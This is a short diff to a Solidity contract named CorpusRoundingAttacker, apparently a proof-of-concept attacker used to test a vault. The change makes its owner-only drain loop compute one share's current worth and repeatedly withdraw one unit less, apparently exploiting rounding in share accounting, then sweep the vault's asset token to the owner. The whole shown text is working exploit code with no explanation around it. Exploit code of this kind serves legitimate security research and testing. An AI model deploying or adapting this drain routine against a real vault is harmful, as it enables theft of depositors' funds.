@@ -70,9 +70,12 @@ contract CorpusRoundingAttacker is CorpusOwned {
         vault = vault_;
     }
 
-    function drain(uint256 assetsPerCall, uint256 calls) external onlyOwner {
+    /// @notice `calls` withdrawals, each of just under one share's current worth.
+    function drain(uint256 calls) external onlyOwner {
         for (uint256 i = 0; i < calls; i++) {
-            vault.withdraw(assetsPerCall);
+            uint256 perShare = vault.totalAssets() / vault.totalSupply();
+            if (perShare <= 1) break;
+            vault.withdraw(perShare - 1);
         }
         _sweep(vault.asset());
     }
